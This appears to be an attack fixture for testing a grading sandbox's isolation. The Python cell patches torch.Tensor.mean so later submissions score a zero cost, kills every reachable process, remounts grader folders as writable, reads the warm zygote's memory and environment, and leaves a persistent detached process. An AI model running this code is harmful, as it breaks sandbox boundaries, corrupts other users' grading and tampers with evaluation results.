# %% attack: leave everything behind for the next submission the same warm worker serves, and
# go after the warm process it was forked from ({TOKEN} marks what it leaves).
import builtins as _builtins
import os as _os
import sys as _sys
import threading as _threading
import time as _time

import torch as _torch

_builtins.LEFT_BY_ATTACKER = "{TOKEN}"
_torch.LEFT_BY_ATTACKER = "{TOKEN}"
_torch.Tensor.mean = lambda self, *a, **k: _torch.tensor(0.0)  # every later cost would be 0
_torch.manual_seed(12345)
_written = []
for _folder in ("/tmp", "/home/student", "/dev/shm", "/", "/dev", "/grader", _os.path.dirname(_os.getcwd())):
    try:
        with open(_os.path.join(_folder, "left-{TOKEN}"), "w") as _f:
            _f.write("x")
        _written.append(_folder)
    except OSError:
        pass
_reached = []
_own = {1}  # its namespace's init, and its own threads (a kernel has several) as its namespace numbers them
for _task in _os.listdir("/proc/self/task"):
    with open(f"/proc/self/task/{_task}/status") as _f:
        _own |= {int(_l.split()[-1]) for _l in _f if _l.startswith("NSpid:")}
if _os.fork() == 0:  # SIGKILL every other pid it can name
    for _pid in range(1, 65536):
        if _pid != _os.getpid() and _pid not in _own:
            try:
                _os.kill(_pid, 9)
            except OSError:
                pass
    _os._exit(0)
_os.wait()
import ctypes as _ctypes  # undo the walls: unmount the fresh /tmp, make the run folder writable

_libc = _ctypes.CDLL(None, use_errno=True)
for _line in open("/proc/self/mounts"):
    _target = _line.split()[1]
    if "grader-" in _target and _libc.mount(b"none", _target.encode(), None, 32 | 4096 | 2 | 4, None) == 0:  # remount, bind, nosuid, nodev
        _reached.append(f"remounted {_target} writable")
if _libc.umount2(b"/tmp", 2) == 0:
    _reached.append("unmounted /tmp")
_threading.Thread(target=_time.sleep, args=(300,), daemon=False).start()  # after the kills: a thread has a pid
_me = _os.readlink("/proc/self")  # its own pid as /proc numbers it (forks of the zygote share its cmdline)
for _entry in _os.listdir("/proc"):  # the warm zygote, if it can see it
    if not _entry.isdigit() or _entry == _me:
        continue
    try:
        with open(f"/proc/{_entry}/cmdline", "rb") as _f:
            if b"zygote" not in _f.read():
                continue
    except OSError:
        continue
    _reached.append(f"saw {_entry}")
    for _name in ("environ", "mem", "maps"):
        try:
            with open(f"/proc/{_entry}/{_name}", "rb") as _f:
                _f.read(1)
            _reached.append(f"read {_entry}/{_name}")
        except OSError:
            pass
if _os.fork() == 0:  # a process meant to outlive the grading
    _os.setsid()
    if _os.fork() == 0:
        _os.execv(_sys.executable, [_sys.executable, "-c", "import time; time.sleep(300)", "{TOKEN}"])
    _os._exit(0)
_os.wait()
print("ATTACK written:", _written, "reached:", _reached, file=_sys.stderr)
